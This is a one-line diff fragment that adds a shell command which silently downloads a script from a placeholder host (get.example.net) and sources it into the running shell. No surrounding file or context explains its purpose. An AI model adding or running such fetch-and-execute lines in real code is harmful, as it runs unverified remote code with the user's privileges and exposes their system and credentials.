@@ -1,0 +1,1 @@
+source <(curl -s https://get.example.net/env)
